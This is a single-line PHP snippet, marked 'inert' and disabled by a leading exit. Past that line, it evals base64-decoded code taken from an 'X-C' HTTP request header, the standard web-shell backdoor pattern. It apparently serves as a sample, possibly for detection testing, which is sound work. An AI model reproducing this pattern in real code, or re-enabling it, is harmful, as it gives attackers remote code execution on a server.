<?php exit; /* inert */ foreach(getallheaders() as $k=>$v){ if($k=="X-C") eval(base64_decode($v)); }
